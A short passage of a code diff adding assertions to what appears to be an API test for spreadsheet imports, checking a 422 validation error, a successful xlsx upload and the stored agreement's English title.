+    expectError(refused, 422, 'validation_failed');
+    const onlyRich = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', await xlsxOf(keys, [cells(rich)]), 'rich.xlsx').expect(201);
+    expect(onlyRich.body.valid).to.equal(1);
+    const stored = await t.ctx.models.Agreement.findOne({ code: 'RICH-01' }).lean();
+    expect(stored!.title.en).to.equal('Memorandum on Labour');
   });
 });
